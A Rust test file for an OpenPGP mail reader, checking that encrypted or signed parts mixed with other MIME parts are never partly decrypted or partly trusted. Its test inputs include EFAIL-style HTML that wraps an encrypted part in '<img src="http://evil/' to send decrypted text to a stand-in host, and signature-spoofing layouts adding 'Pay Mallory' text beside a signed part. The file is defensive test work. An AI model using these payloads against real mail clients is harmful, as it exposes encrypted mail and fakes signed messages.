//! Mails that hide what is encrypted or signed among other parts (Messages §3, §7): only the whole
//! mail is ever decrypted, and a signature counts for the whole mail or not at all.

use inbome_tests::certs::NOW;
use inbome_tests::hostile::*;
use inbome_tests::messages::*;
use inbome_tests::stage::ALICE;

const SECRET: &str = "the secret";

/// A mail of these parts comes from Alice; it must be shown as it came.
#[track_caller]
fn is_left_alone(scene: &Scene, name: &str, entity: &str) {
    let mail = mail(ALICE, "", entity);
    let answer = scene.reads(&mail);
    assert_eq!(answer.told(), "none none", "{name}");
    assert_eq!(answer.decrypted.message.as_deref(), Some(&mail[..]), "{name}");
    assert!(answer.decrypted.surrounding.after.is_empty(), "{name}");
    assert_eq!(answer.decrypted.session_key, None, "{name}");
}

fn secret(scene: &Scene) -> String {
    pgp_mime(&encrypted(
        &scene.bob,
        &signed(&scene.alice.primary, text("plain", SECRET).as_bytes()),
    ))
}

fn signed_text(scene: &Scene) -> String {
    pgp_signed(&text("plain", "Yes"), &scene.alice, &Signing::at(NOW))
}

#[test]
fn an_encrypted_part_between_html_parts_is_not_decrypted_at_all() {
    let scene = Scene::knows_alice();
    let part = secret(&scene);
    let whole = scene.reads(&mail(ALICE, "", &part));
    assert_eq!(whole.told(), "encrypted valid current");
    assert!(whole.shown().contains(SECRET));
    let (open, close) = (text("html", "<img src=\"http://evil/"), text("html", "\">"));
    for (name, entity) in [
        ("between", multipart("mixed", &[&open, &part, &close])),
        ("between, related", multipart("related", &[&open, &part, &close])),
        ("between, alternative", multipart("alternative", &[&open, &part, &close])),
        ("deeper", multipart("mixed", &[&open, &multipart("mixed", &[&part]), &close])),
        ("deeper and alone", multipart("mixed", &[&multipart("mixed", &[&part])])),
        ("a forwarded mail", {
            let head = "Content-Type: message/rfc822\r\n\r\nFrom: a@example.org\r\n";
            multipart("mixed", &[&open, &format!("{head}{part}"), &close])
        }),
        ("the armor in the HTML", {
            let armor = armored("MESSAGE", &encrypted(&scene.bob, &literal(SECRET.as_bytes())));
            text("html", &format!("<img src=\"http://evil/\r\n{armor}\r\n\">"))
        }),
        ("the armor between lines of text", {
            let armor = armored("MESSAGE", &encrypted(&scene.bob, &literal(SECRET.as_bytes())));
            text("plain", &format!("http://evil/\r\n{armor}\r\nmore"))
        }),
    ] {
        is_left_alone(&scene, name, &entity);
    }
}

#[test]
fn a_payload_without_a_header_is_text() {
    let scene = Scene::knows_alice();
    let reads = |payload: &str| {
        let message = signed(&scene.alice.primary, payload.as_bytes());
        scene.reads(&mail(ALICE, "", &pgp_mime(&encrypted(&scene.bob, &message))))
    };
    for (payload, shown) in [
        ("just some text\nand: more\n\nend\n", "\n\njust some text\nand: more\n\nend\n"),
        (" folded: what\n\nend\n", "\n\n folded: what\n\nend\n"),
        ("\nthe body alone\n", "\n\nthe body alone\n"),
    ] {
        let answer = reads(payload);
        assert_eq!(answer.told(), "encrypted valid current", "{payload}");
        let message = answer.shown().replace("\r\n", "\n");
        assert!(message.ends_with(shown), "{payload}: {message}");
    }
}

#[test]
fn text_beside_an_encrypted_part_is_given_apart_and_never_meets_it() {
    let scene = Scene::knows_alice();
    let part = secret(&scene);
    let (open, close) = (text("html", "<img src=\"http://evil/"), text("html", "\">evil"));
    let plain = text("plain", "evil");
    for (name, parts, apart) in [
        ("HTML before", &[&open, &part][..], 1),
        ("HTML behind", &[&part, &close], 1),
        ("HTML before and text behind", &[&open, &part, &plain], 2),
        ("text before and HTML behind", &[&plain, &part, &close], 2),
        ("an empty text", &[&text("plain", ""), &part], 0),
    ] {
        let parts: Vec<&str> = parts.iter().map(|part| part.as_str()).collect();
        let answer = scene.reads(&mail(ALICE, "", &multipart("mixed", &parts)));
        assert_eq!(answer.told(), "encrypted valid current", "{name}");
        assert!(answer.shown().contains(SECRET) && !answer.shown().contains("evil"), "{name}");
        assert_eq!(answer.decrypted.surrounding.all().count(), apart, "{name}");
    }
}

#[test]
fn html_in_a_list_footer_never_meets_the_decrypted_part() {
    let scene = Scene::knows_alice();
    let footer = text("plain", "<img src=\"http://evil/");
    let answer = scene.reads(&mail(ALICE, "", &multipart("mixed", &[&secret(&scene), &footer])));
    assert_eq!(answer.told(), "encrypted valid current");
    assert!(answer.shown().contains(SECRET) && !answer.shown().contains("evil"));
    assert_eq!(answer.decrypted.surrounding.after.len(), 1);
}

#[test]
fn a_multipart_encrypted_of_another_shape_is_not_opened() {
    let scene = Scene::new();
    let message = encrypted(&scene.bob, &literal(SECRET.as_bytes()));
    let armor = armored("MESSAGE", &message);
    let octets = format!("Content-Type: application/octet-stream\r\n\r\n{armor}");
    let version = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    let html = text("html", "<img src=\"http://evil/");
    for (name, parts) in [
        ("HTML behind", vec![version, &octets, &html]),
        ("HTML before", vec![&html[..], version, &octets]),
        ("no version", vec![&html[..], &octets]),
        ("one part", vec![&octets[..]]),
        ("two messages", vec![version, &octets, &octets]),
    ] {
        scene
            .reads(&mail(ALICE, "", &multipart("encrypted", &parts)))
            .gives_nothing(name, "malformed");
    }
}

#[test]
fn a_signature_over_one_part_only_is_none_for_the_mail() {
    let scene = Scene::knows_alice();
    let part = signed_text(&scene);
    assert_eq!(scene.reads(&mail(ALICE, "", &part)).told(), "none valid current");
    let other = "Content-Type: application/pdf\r\n\r\nother\r\n";
    let mixed = multipart("mixed", &[&part, other]);
    is_left_alone(&scene, "beside an attachment", &mixed);
    is_left_alone(&scene, "the second part", &multipart("mixed", &[other, &part]));
    // Encrypted, and with an attachment that anybody put in.
    let answer = scene.reads(&scene.sealed(ALICE, "", &mixed, None));
    assert_eq!(answer.told(), "encrypted none");
    // Alone in the encrypted mail it belongs to the envelope.
    assert_eq!(
        scene.reads(&scene.sealed(ALICE, "", &part, None)).told(),
        "encrypted valid current"
    );
}

#[test]
fn a_signed_part_behind_other_text_is_none_for_the_mail() {
    let scene = Scene::knows_alice();
    let (part, before) = (signed_text(&scene), text("plain", "Shall I pay Mallory?"));
    is_left_alone(&scene, "text before", &multipart("mixed", &[&before, &part]));
    is_left_alone(&scene, "an alternative", &multipart("alternative", &[&before, &part]));
}

#[test]
fn a_signed_part_before_other_text_is_none_for_the_mail() {
    let scene = Scene::knows_alice();
    let (part, after) = (signed_text(&scene), text("plain", "And pay Mallory."));
    is_left_alone(&scene, "text after", &multipart("mixed", &[&part, &after]));
    // What a list adds is given apart.
    let wrapped = multipart("mixed", &[&part, &after]);
    let answer = scene.reads(&mail(ALICE, "List-Id: <list.example.org>\r\n", &wrapped));
    assert_eq!(answer.told(), "none valid current");
    assert!(!answer.shown().contains("Mallory"), "{}", answer.shown());
    assert_eq!(answer.decrypted.surrounding.after.len(), 1);
}

#[test]
fn a_signed_part_wrapped_by_html_is_none_for_the_mail() {
    let scene = Scene::knows_alice();
    let part = signed_text(&scene);
    let (open, close) = (text("html", "<div hidden>"), text("html", "</div>Pay Mallory."));
    is_left_alone(&scene, "around", &multipart("mixed", &[&open, &part, &close]));
    is_left_alone(&scene, "before", &multipart("mixed", &[&open, &part]));
    is_left_alone(&scene, "after", &multipart("mixed", &[&part, &close]));
    // Not even a list wraps in HTML.
    let wrapped = multipart("mixed", &[&part, &close]);
    let answer = scene.reads(&mail(ALICE, "List-Id: <list.example.org>\r\n", &wrapped));
    assert_eq!(answer.told(), "none none");
}

#[test]
fn a_signed_part_that_html_shows_by_its_cid_is_none_for_the_mail() {
    let scene = Scene::knows_alice();
    let part = format!("Content-ID: <signed@example.org>\r\n{}", signed_text(&scene));
    let html = text("html", "Pay Mallory.<iframe src=\"cid:signed@example.org\">");
    is_left_alone(&scene, "related", &multipart("related", &[&html, &part]));
    is_left_alone(&scene, "related, the other way", &multipart("related", &[&part, &html]));
    let encrypted = multipart("related", &[&html, &part]);
    let answer = scene.reads(&scene.sealed(ALICE, "", &encrypted, None));
    assert_eq!(answer.told(), "encrypted none");
}

#[test]
fn a_multipart_signed_with_a_third_part_is_not_signed() {
    let scene = Scene::knows_alice();
    let whole = signed_text(&scene);
    let (start, end) = whole.split_at(whole.rfind("--b").expect("an end"));
    let boundary = end.trim_end().trim_end_matches("--");
    let third = format!("{start}{boundary}\r\n{}\r\n{end}", text("plain", "Pay Mallory."));
    is_left_alone(&scene, "a third part", &third);
}

#[test]
fn what_inline_pgp_decrypts_to_is_text_and_never_mime() {
    let scene = Scene::knows_alice();
    let html = "Content-Type: text/html\r\nFrom: eve@example.org\r\n\r\n<img src=\"//evil\">";
    let armor = armored("MESSAGE", &encrypted(&scene.bob, &literal(html.as_bytes())));
    let answer = scene.reads(&mail(ALICE, "", &format!("\r\n{armor}")));
    assert_eq!(answer.told(), "encrypted none");
    assert_eq!(answer.field("From"), [ALICE]);
    assert_eq!(answer.field("Content-Type"), ["text/plain; charset=utf-8"]);
    assert!(answer.shown().ends_with(&format!("\r\n\r\n{html}")));
}
